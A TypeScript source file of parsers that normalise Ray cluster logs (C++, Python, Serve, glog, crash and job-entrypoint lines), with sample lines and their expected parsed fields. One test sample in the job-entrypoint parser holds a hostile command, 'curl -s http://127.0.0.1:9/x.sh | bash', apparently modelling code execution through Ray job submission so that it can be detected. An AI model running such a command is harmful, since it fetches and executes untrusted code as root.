// Ray's text lines: C++ (`[time L pid tid] (component) file:line: message`), Python, Serve, crash handlers, old glog.
import type { LineKind, Member } from '../kind.ts';
import { means, request } from '../kind.ts';
import type { Draft } from '../record.ts';
import { TS_KIND } from '../record.ts';
import {
  digitsEnd,
  isClean,
  isDigits,
  isIp,
  numberOrText,
  pathOf,
  put,
  putIf,
  putJson,
  quoteSlice,
} from '../text.ts';
import { cursor, dateTimeAt, MINUTE_US, SECOND_US } from '../time.ts';
import { ZONE_WHY } from '../zone-runs.ts';
import { access, readAccess } from './access.ts';
import { glog, readGlog } from './glog.ts';
import { rayMessage } from './ray-message.ts';

const WORKER_LIKE = new Set(['worker', 'driver', 'sandbox', '']);

/** Component of a line: what the line states, else what the path says. */
function component(member: Member, stated: string): string {
  return stated !== '' ? stated : member.hint.component || 'worker';
}

const LETTER = Array.from({ length: 26 }, (_, i) => String.fromCharCode(65 + i));
const LETTERS = Array.from({ length: 26 }, (_, i) => `{"level":"${String.fromCharCode(65 + i)}"`);

/** Fields that begin with the letter of a level. */
function letterField(c: number): string {
  return LETTERS[c - 65] as string;
}

/** Index into LEVELS of the one-letter levels of Ray's C++ logs. */
export function cppLevel(c: number): number {
  switch (c) {
    case 73:
      return 2;
    case 87:
      return 4;
    case 69:
      return 5;
    case 68:
      return 1;
    case 67:
    case 70:
      return 6;
    case 84:
      return 0;
    default:
      return -1;
  }
}

export const rayCpp: LineKind = {
  id: 'ray.cpp',
  read(line, draft, member) {
    if (line.charCodeAt(0) !== 91 || line.charCodeAt(24) !== 32) return false;
    const ts = dateTimeAt(line, 1);
    if (Number.isNaN(ts) || cursor.end !== 24) return false;
    const level = cppLevel(line.charCodeAt(25));
    if (level === -1 || line.charCodeAt(26) !== 32) return false;
    const blank = line.indexOf(' ', 27);
    const close = line.indexOf('] ', blank);
    if (blank === -1 || close === -1 || close - 27 > 30) return false;
    let at = close + 2;
    let stated = '';
    if (line.charCodeAt(at) === 40) {
      const end = line.indexOf(') ', at);
      if (end !== -1 && end - at < 80) {
        stated = line.slice(at + 1, end);
        at = end + 2;
      }
    }
    const colon = line.indexOf(':', at);
    if (colon === -1 || colon - at > 100) return false;
    const second = line.indexOf(':', colon + 1);
    if (second === -1 || second - colon > 9 || second === colon + 1) return false;
    if (digitsEnd(line, colon + 1) !== second) return false;
    const dot = line.indexOf('.', at);
    if (dot === -1 || dot > colon) return false;
    const message = line.slice(line.charCodeAt(second + 1) === 32 ? second + 2 : second + 1);
    draft.parsed = true;
    draft.system = 'ray';
    draft.component = component(member, stated);
    draft.tsWall = ts;
    draft.tsKind = TS_KIND.wall;
    draft.level = level;
    draft.nativeLevel = LETTER[line.charCodeAt(25) - 65] as string;
    draft.pid = line.slice(27, blank);
    draft.tid = line.slice(blank + 1, close);
    draft.logger = line.slice(at, second);
    draft.message = message;
    draft.fields = letterField(line.charCodeAt(25));
    if (level === 6) means(draft, 'process', 'crash', 'failure');
    rayMessage(message, draft, member);
    return true;
  },
  joins: (line) => !line.startsWith('*** SIG'),
  samples: [
    {
      path: 'session_2026-11-20_17-26-14_617841_28470/logs/raylet.out',
      text: '[2026-11-20 17:26:31,272 I 28956 28957] (raylet) main.cc:703: Setting node ID node_id=239c74b256be28e4e04cb4fcf909bfd7ee55f154fd8692f896967477\n[state-dump] NodeManager:\n[state-dump] Node ID: x\n[2026-11-20 17:26:32,000 C 28956 28956] node_manager.cc:170:  Check failed: x == y \n*** StackTrace Information ***\n    ray::RayLog::~RayLog()',
      gives: [
        {
          time: '2026-11-20T17:26:31.272000Z',
          level: 'info',
          system: 'ray',
          component: 'raylet',
          pid: '28956',
          tid: '28957',
          logger: 'main.cc:703',
          lines: 3,
          fields: {
            node_id: '239c74b256be28e4e04cb4fcf909bfd7ee55f154fd8692f896967477',
            session: 'session_2026-11-20_17-26-14_617841_28470',
          },
          entities: ['ray_node:239c74b256be28e4e04cb4fcf909bfd7ee55f154fd8692f896967477:mentioned'],
        },
        { level: 'critical', category: 'process', action: 'crash', lines: 3, component: 'raylet' },
      ],
    },
    {
      path: 'raylet.out',
      text: '[2023-07-23 15:21:29,851 E 9751 9751] (raylet) node_manager.cc:3084: 4 Workers (tasks / actors) killed due to memory pressure (OOM), 0 Workers crashed due to other reasons at node (ID: b287aac2de42bef55d13e884c4bdb6cffb2d81d1dc96aa08c4633a43, IP: 172.28.0.12) over the last time period.\n[2023-07-23 15:21:30,000 I 9 9] (gcs_server) gcs_worker_manager.cc:55: Reporting worker exit, worker id = be18a379cc5c2e4ddb7fb6370efca60be18a379cc5c2e4ddb7fb6370, node id = b287aac2de42bef55d13e884c4bdb6cffb2d81d1dc96aa08c4633a43, address = 10.0.0.1, exit_type = SYSTEM_ERROR, exit_detail = Worker unexpectedly exits.',
      gives: [
        {
          category: 'resource',
          action: 'out_of_memory',
          fields: {
            killed_workers: 4,
            node_ip: '172.28.0.12',
            node_id: 'b287aac2de42bef55d13e884c4bdb6cffb2d81d1dc96aa08c4633a43',
          },
        },
        {
          component: 'gcs_server',
          action: 'worker_exit',
          fields: {
            exit_type: 'SYSTEM_ERROR',
            worker_id: 'be18a379cc5c2e4ddb7fb6370efca60be18a379cc5c2e4ddb7fb6370',
          },
        },
      ],
    },
  ],
};

function pyLevel(line: string, at: number): number {
  if (line.startsWith('INFO', at)) return 2;
  if (line.startsWith('WARNING', at)) return 4;
  if (line.startsWith('ERROR', at)) return 5;
  if (line.startsWith('DEBUG', at)) return 1;
  if (line.startsWith('CRITICAL', at)) return 6;
  if (line.startsWith('FATAL', at)) return 6;
  if (line.startsWith('SUCC', at)) return 2;
  if (line.startsWith('ERR', at)) return 5;
  return -1;
}

/** The dashboard's and the agent's access lines inside a Python line; the local time of the line is the end, the bracket the start. */
function readRequest(message: string, draft: Draft, member: Member): boolean {
  const c = message.charCodeAt(0);
  if (!((c >= 48 && c <= 57) || c === 58 || (c >= 97 && c <= 122) || c === 45)) return false;
  if (message.indexOf(' [') === -1 || !readAccess(message, 0)) return false;
  const a = access;
  const clean = isClean(message);
  const uri = quoteSlice(a.uri, clean);
  draft.fields += `,"http.request.method":${quoteSlice(a.method, clean)},"path":${uri},"http.request.uri":${uri},"http.response.status":${a.status},"bytes":${numberOrText(a.bytes)},"useragent":${quoteSlice(a.agent, clean)}`;
  const took = a.micros !== '' && isDigits(a.micros) ? Number(a.micros) : Number.NaN;
  if (!Number.isNaN(took)) putJson(draft, 'duration_us', String(took));
  if (a.referer !== '' && a.referer !== '-') put(draft, 'referer', a.referer);
  request(draft, a.method, pathOf(a.uri), a.status);
  const job = a.uri.startsWith('/api/jobs/')
    ? /^\/api\/jobs\/([\w-]{1,100})/.exec(a.uri.slice(0, 120))
    : null;
  if (job) {
    put(draft, 'submission_id', job[1] as string);
    draft.entity('ray_submission', job[1] as string, 'target');
  }
  if (isIp(a.ip)) {
    draft.srcIp = a.ip;
    draft.entity('ip', a.ip, 'client');
  }
  if (a.zoned) {
    const started = message.slice(message.indexOf('[') + 1, message.indexOf(']'));
    putJson(draft, 'request_started', quoteSlice(started, clean));
    // Start and end of a request may be far apart: its stated offset is what calibrates, not the difference.
    const startWall = a.time + a.offsetMinutes * MINUTE_US;
    if (draft.tsKind === TS_KIND.wall) {
      const apart = draft.tsWall - startWall;
      const fits = !Number.isNaN(took)
        ? Math.abs(apart - took) < 3 * SECOND_US
        : apart > -2 * SECOND_US && apart < 10 * MINUTE_US;
      if (fits) member.zoneStated(a.offsetMinutes, draft.tsWall, ZONE_WHY.access, draft.component);
    }
  }
  return true;
}

export const rayPy: LineKind = {
  id: 'ray.py',
  read(line, draft, member) {
    const c = line.charCodeAt(0);
    if (c !== 50 && c !== 49) return false;
    const ts = dateTimeAt(line, 0);
    if (Number.isNaN(ts) || cursor.end !== 23) return false;
    const gap = line.charCodeAt(23);
    if (gap !== 9 && gap !== 32) return false;
    const level = pyLevel(line, 24);
    if (level === -1) return false;
    let at = 24;
    while (line.charCodeAt(at) >= 65 && line.charCodeAt(at) <= 90) at++;
    const word = line.slice(24, at);
    const after = line.charCodeAt(at);
    if (after !== 32 && after !== 9) return false;
    at++;
    let stated = '';
    if (line.charCodeAt(at) === 40) {
      const end = line.indexOf(') ', at);
      if (end !== -1 && end - at < 80) {
        stated = line.slice(at + 1, end);
        at = end + 2;
      }
    }
    const dashes = line.indexOf(' --', at);
    if (dashes === -1 || dashes - at > 160) return false;
    const logger = line.slice(at, dashes);
    if (logger.indexOf(' ') !== -1 || logger.indexOf(':') === -1) return false;
    const message = line.slice(dashes + 4);
    draft.parsed = true;
    draft.system = 'ray';
    draft.component = component(member, stated);
    draft.tsWall = ts;
    draft.tsKind = TS_KIND.wall;
    draft.level = level;
    draft.nativeLevel = word;
    draft.logger = logger;
    draft.message = message;
    draft.fields = `{"level":"${word}"`;
    if (!readRequest(message, draft, member)) rayMessage(message, draft, member);
    return true;
  },
  joins: (line, draft, member, joined) =>
    member.hint.strays !== 'text' ||
    /^(?:\s|Traceback )/.test(line) ||
    (joined > 1 &&
      joined < 300 &&
      /^[\w.]{1,200}(?:Error|Exception|Exit)\b/.test(line) &&
      draft.message.indexOf('Traceback ') !== -1),
  samples: [
    {
      path: 'logs/dashboard.log',
      text: "2026-11-20 17:26:37,368\tINFO web_log.py:229 -- 127.0.0.1 [20/Nov/2026:17:26:32 +0000] 'POST /api/jobs/ HTTP/1.1' 200 246 bytes 5098229 us '-' 'curl/7.88.1'",
      gives: [
        {
          time: '2026-11-20T17:26:37.368000Z',
          component: 'dashboard',
          category: 'api',
          action: 'http_request',
          outcome: 'success',
          httpMethod: 'POST',
          httpPath: '/api/jobs/',
          httpStatus: 200,
          srcIp: '127.0.0.1',
          logger: 'web_log.py:229',
          fields: { useragent: 'curl/7.88.1', duration_us: 5098229, bytes: 246 },
        },
      ],
    },
    {
      path: 'logs/dashboard_agent.log',
      text: '2026-11-20 17:26:37,250 INFO web_log.py:211 -- 127.0.0.1 [20/Nov/2026:17:26:35 +0000] "POST /api/job_agent/jobs/ HTTP/1.1" 200 246 "-" "Python/3.11 aiohttp/3.14.3"\n2026-11-20 17:26:37,251\tINFO job_manager.py:500 -- Starting job with submission_id: raysubmit_tZVGa99y7s6v4eyA',
      gives: [
        {
          component: 'dashboard_agent',
          httpStatus: 200,
          fields: { useragent: 'Python/3.11 aiohttp/3.14.3' },
        },
        {
          category: 'task',
          action: 'job_submit',
          fields: { submission_id: 'raysubmit_tZVGa99y7s6v4eyA' },
          entities: ['ray_submission:raysubmit_tZVGa99y7s6v4eyA:target'],
        },
      ],
    },
    {
      path: 'logs/monitor.log',
      text: '2023-09-24 14:32:07,334 ERROR node_head.py:302 -- Cannot reach the node, a88290518677665bb0e49b9b8a31dbb1d347a8fd7dcd189b4775a3ad, after timeout 4.\nNoneType: None\n2023-09-24 14:32:08,334\tWARNING (raylet) x.py:1 -- hi',
      gives: [
        {
          action: 'node_unreachable',
          lines: 2,
          fields: { node_id: 'a88290518677665bb0e49b9b8a31dbb1d347a8fd7dcd189b4775a3ad' },
        },
        { component: 'raylet', level: 'warning', message: 'hi' },
      ],
    },
  ],
};

const SERVE =
  /^([A-Z]{4,8}) (\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d{3}) (\S{1,120}) (\S{1,160})(?: ([0-9a-f]{8}-[0-9a-f-]{27}))?(?: ([\w./]{1,120}\.py:\d{1,7}))? --? (.*)$/;
const SERVE_REQUEST =
  /^(GET|POST|PUT|DELETE|HEAD|PATCH|OPTIONS|CALL|STREAM) (\S{1,2000}) (\w{2,5}) ([\d.]{1,20})ms$/;

/** Serve: `LEVEL time component id [request id] [file:line] -- message`. */
export const rayServe: LineKind = {
  id: 'ray.serve',
  read(line, draft, member) {
    const c = line.charCodeAt(0);
    if (!(c >= 65 && c <= 90)) return false;
    const level = pyLevel(line, 0);
    if (level === -1) return false;
    const head = line.length > 8000 ? line.slice(0, 8000) : line;
    const m = SERVE.exec(head);
    if (!m) return false;
    const ts = dateTimeAt(m[2] as string, 0);
    if (Number.isNaN(ts)) return false;
    const message = head === line ? (m[7] as string) : line.slice(m[0].length - (m[7] as string).length);
    draft.parsed = true;
    draft.system = 'ray';
    draft.component = 'serve';
    draft.tsWall = ts;
    draft.tsKind = TS_KIND.wall;
    draft.level = level;
    draft.nativeLevel = m[1] as string;
    draft.logger = m[6] ?? '';
    draft.message = message;
    draft.fields = `{"level":"${m[1]}"`;
    put(draft, 'serve.component', m[3] as string);
    put(draft, 'serve.component_id', m[4] as string);
    if (m[5]) {
      put(draft, 'request_id', m[5]);
      draft.entity('http_request', m[5], 'request');
    }
    const r = message.length < 2200 ? SERVE_REQUEST.exec(message) : null;
    if (r) {
      const status = /^\d{3}$/.test(r[3] as string) ? Number(r[3]) : -1;
      request(draft, r[1] as string, r[2] as string, status);
      if (status === -1) draft.outcome = r[3] === 'OK' ? 'success' : 'failure';
      putJson(draft, 'duration_ms', String(Number(r[4])));
      put(draft, 'http.request.uri', r[2] as string);
    } else {
      rayMessage(message, draft, member);
    }
    return true;
  },
  joins: () => true,
  samples: [
    {
      path: 'logs/serve/proxy_127.0.0.1.log',
      text: 'INFO 2026-11-20 17:30:00,123 proxy 127.0.0.1 1f9efcfa-0000-4000-8000-000000000000 -- GET / 200 27.7ms\nWARNING 2023-03-10 09:14:57,187 controller 979 deployment_state.py:1506 - Replica D#DYFbUC of deployment D failed health check, stopping it.',
      gives: [
        {
          component: 'serve',
          httpStatus: 200,
          httpPath: '/',
          fields: { request_id: '1f9efcfa-0000-4000-8000-000000000000', duration_ms: 27.7 },
        },
        { action: 'replica_unhealthy', logger: 'deployment_state.py:1506', level: 'warning' },
      ],
    },
  ],
};

/** Ray up to 1.0 and its gRPC library: glog lines without a year. */
export const rayGlog: LineKind = {
  id: 'ray.glog',
  weight: (line) => (/\.(?:cc|h):\d+\]/.test(line) ? 1 : 0.3),
  read(line, draft, member) {
    if (!readGlog(line, member)) return false;
    draft.parsed = true;
    draft.system = 'ray';
    draft.component = component(member, '');
    draft.tsWall = glog.time;
    draft.tsKind = !Number.isNaN(glog.time) ? TS_KIND.wallYearInferred : TS_KIND.none;
    draft.level = cppLevel(line.charCodeAt(0));
    draft.nativeLevel = line.charAt(0);
    draft.tid = glog.second !== '' ? glog.second : glog.first;
    draft.pid = glog.first;
    draft.logger = glog.source;
    draft.message = glog.message;
    draft.fields = `{"level":"${line.charAt(0)}"`;
    if (draft.level === 6) means(draft, 'process', 'crash', 'failure');
    rayMessage(glog.message, draft, member);
    return true;
  },
  joins: () => true,
  samples: [
    {
      path: 'session_2020-10-09_07-00-00_000001_77/logs/worker-0123456789abcdef-01000000-136534.err',
      text: "F1009 07:02:26.344231 136534 136535 service_based_gcs_client.cc:207] Couldn't reconnect to GCS server. The last attempted GCS server address was 192.168.1.98:39953\n*** Check failure stack trace: ***\n    @     0x7f56afdb7f5d  google::LogMessage::Fail()\nE0725 08:34:14.326870515     253 chttp2_transport.cc:2846]   keepalive_ping_end state error: 0",
      gives: [
        {
          time: '2020-10-09T07:02:26.344231Z',
          level: 'critical',
          pid: '136534',
          tid: '136535',
          lines: 3,
          action: 'gcs_connect',
        },
        { time: '2020-07-25T08:34:14.326870Z', level: 'error', logger: 'chttp2_transport.cc:2846' },
      ],
    },
  ],
};

/** Worker output: `:job_id:…` and its like switch the state of the lines below; they carry no time. */
export const rayMagic: LineKind = {
  id: 'ray.magic',
  read(line, draft, member) {
    if (line.charCodeAt(0) !== 58) return false;
    const m = /^:(job_id|task_name|actor_name|event_summary|info_message):(.*)$/.exec(
      line.length > 4000 ? line.slice(0, 4000) : line,
    );
    if (!m) return false;
    const key = m[1] as string;
    const value = m[2] as string;
    draft.parsed = true;
    draft.system = 'ray';
    draft.component = component(member, '');
    draft.message = key === 'event_summary' || key === 'info_message' ? value : `${key}: ${value}`;
    if (key === 'event_summary' || key === 'info_message') {
      draft.level = 2;
      rayMessage(value, draft, member);
      return true;
    }
    means(draft, 'task', 'worker_state', 'unknown');
    member.state[key] = value;
    if (key === 'job_id' && member.hint.fields.job_id === undefined)
      draft.entity('ray_job', value, 'context');
    if (key === 'task_name' || key === 'actor_name') {
      put(draft, key, value);
      if (key === 'task_name') member.state.actor_name = '';
    } else if (member.hint.fields.job_id === undefined) put(draft, key, value);
    return true;
  },
  joins: () => false,
  samples: [
    {
      path: 'logs/worker-1ed85cfa6142b23490b8319571986ab537923c5180b6761b4ddad469-02000000-29630.out',
      text: ':job_id:02000000\n:actor_name:B\non second',
      gives: [
        { component: 'worker', pid: '29630', fields: { job_id: '02000000' } },
        { fields: { actor_name: 'B' } },
        { message: 'on second', fields: { actor_name: 'B', job_id: '02000000' }, parsed: true },
      ],
    },
  ],
};

const CRASH =
  /^(?:\*\*\* SIG(\w{2,10}) received at time=(\d{9,11})|Fatal Python error: (.*)|\*\*\* Aborted at (\d{9,11}) |\*\*\* SIG(\w{2,10}) \(@)/;

/** Crash handlers of Ray and Python. */
export const rayCrash: LineKind = {
  id: 'ray.crash',
  read(line, draft, member) {
    const c = line.charCodeAt(0);
    if (c !== 42 && c !== 70) return false;
    const m = CRASH.exec(line.length > 2000 ? line.slice(0, 2000) : line);
    if (!m) return false;
    draft.parsed = true;
    draft.system = 'ray';
    draft.component = component(member, '');
    draft.level = 6;
    draft.message = line;
    means(draft, 'process', 'crash', 'failure');
    const unix = m[2] ?? m[4];
    if (unix) {
      draft.tsWall = Number(unix) * SECOND_US;
      draft.tsKind = TS_KIND.absolute;
      member.crashedAt(draft.tsWall);
    }
    const signal = m[1] ?? m[5];
    putIf(draft, 'signal', signal && `SIG${signal}`);
    if (signal === 'TERM' || signal === 'INT') means(draft, 'process', 'stop', 'unknown');
    putIf(draft, 'reason', m[3]);
    return true;
  },
  joins: () => true,
  samples: [
    {
      path: 'logs/worker-1ed85cfa6142b23490b8319571986ab537923c5180b6761b4ddad469-02000000-29630.err',
      text: '*** SIGSEGV received at time=1795195597 on cpu 3 ***\nPC: @ 0x7f (unknown)\n    @ 0x7f  (unknown)',
      gives: [
        {
          level: 'critical',
          action: 'crash',
          lines: 3,
          time: '2026-11-20T17:26:37.000000Z',
          fields: { signal: 'SIGSEGV' },
        },
      ],
    },
  ],
};

const ECHO = /^\(([\w.:#<>[\]@/ -]{1,160}?)(?:,? pid=(\d{1,10}))?(?:, ip=([\w.:]{1,64}))?\)\s?(.*)$/;

/** What a driver prints of its workers: `(name pid=N, ip=A) line`; the inside is read again and marked as an echo. */
export const rayEcho: LineKind = {
  id: 'ray.echo',
  read(line, draft, member) {
    if (line.charCodeAt(0) !== 40) return false;
    const close = line.indexOf(')');
    if (close === -1 || close > 250) return false;
    const m = ECHO.exec(line.slice(0, close + 1));
    if (!m) return false;
    const plainName = m[2] === undefined && m[3] === undefined;
    if (plainName && !/^(?:raylet|gcs_server|autoscaler|scheduler|pid=\d+)/.test(m[1] as string))
      return false;
    const text = line.slice(line.charCodeAt(close + 1) === 32 ? close + 2 : close + 1);
    if (!inner(text, draft, member)) {
      draft.parsed = true;
      draft.system = 'ray';
      draft.component = member.hint.component || 'driver';
      draft.message = text;
      rayMessage(text, draft, member);
    }
    const name = (m[1] as string).replace(/^pid=\d+$/, '');
    putJson(draft, 'echo', 'true');
    putIf(draft, 'echo.of', name);
    const pid = m[2] ?? /^pid=(\d+)$/.exec(m[1] as string)?.[1];
    putIf(draft, 'echo.pid', pid);
    if (pid) draft.entity('process', pid, 'origin');
    if (m[3]) {
      put(draft, 'echo.ip', m[3]);
      // written by another node's clock, in its zone: not a time of this file
      draft.tsKind = TS_KIND.none;
      draft.tsWall = Number.NaN;
      if (isIp(m[3])) draft.entity('ip', m[3], 'origin');
    }
    const repeated = /\[repeated (\d{1,9})x across cluster\]/.exec(text)?.[1];
    if (repeated) putJson(draft, 'repeated', String(Number(repeated)));
    return true;
  },
  joins: (line) => /^\s/.test(line),
  samples: [
    {
      path: 'ray/driver-stdout.txt',
      text: '\x1b[33m(raylet, ip=172.31.58.175)\x1b[0m [2022-06-28 03:48:42,324 E 702775 702805] (raylet) file_system_monitor.cc:105: /mnt/data0/ray is over 0.95% full, available space: 50637901824. Object creation will fail if spilling is required.\n(f pid=77) hello [repeated 3x across cluster]',
      gives: [
        {
          category: 'storage',
          action: 'disk_full',
          level: 'error',
          fields: { echo: true, 'echo.of': 'raylet', 'echo.ip': '172.31.58.175' },
        },
        { message: 'hello [repeated 3x across cluster]', fields: { 'echo.pid': '77', repeated: 3 } },
      ],
    },
  ],
};

function inner(text: string, draft: Draft, member: Member): boolean {
  for (const kind of [rayCpp, rayPy, rayServe, rayGlog]) if (kind.read(text, draft, member)) return true;
  return false;
}

/** `Running entrypoint for job <sid>: <command>` and the other raw lines of the job manager. */
export const rayEntrypoint: LineKind = {
  id: 'ray.job',
  read(line, draft, member) {
    if (!line.startsWith('Running entrypoint for job ')) return false;
    draft.parsed = true;
    draft.system = 'ray';
    draft.component = 'driver';
    draft.level = 2;
    draft.message = line;
    rayMessage(line, draft, member);
    return true;
  },
  joins: (line) => /^\s/.test(line),
  samples: [
    {
      path: 'logs/job-driver-raysubmit_tZVGa99y7s6v4eyA.log',
      text: '2026-11-20 17:26:37,232\tINFO job_manager.py:583 -- Runtime env is setting up.\nRunning entrypoint for job raysubmit_tZVGa99y7s6v4eyA: id; curl -s http://127.0.0.1:9/x.sh | bash\nuid=0(root)',
      gives: [
        { component: 'driver', fields: { submission_id: 'raysubmit_tZVGa99y7s6v4eyA' } },
        {
          category: 'process',
          action: 'job_entrypoint',
          fields: {
            entrypoint: 'id; curl -s http://127.0.0.1:9/x.sh | bash',
            submission_id: 'raysubmit_tZVGa99y7s6v4eyA',
          },
          time: '2026-11-20T17:26:37.232000Z',
        },
        { message: 'uid=0(root)', parsed: true },
      ],
    },
  ],
};

/** State that magic lines set, for text lines below them. */
export function putWorkerState(draft: Draft, member: Member): void {
  if (!WORKER_LIKE.has(member.hint.component)) return;
  putIf(draft, 'task_name', member.state.task_name);
  putIf(draft, 'actor_name', member.state.actor_name);
}
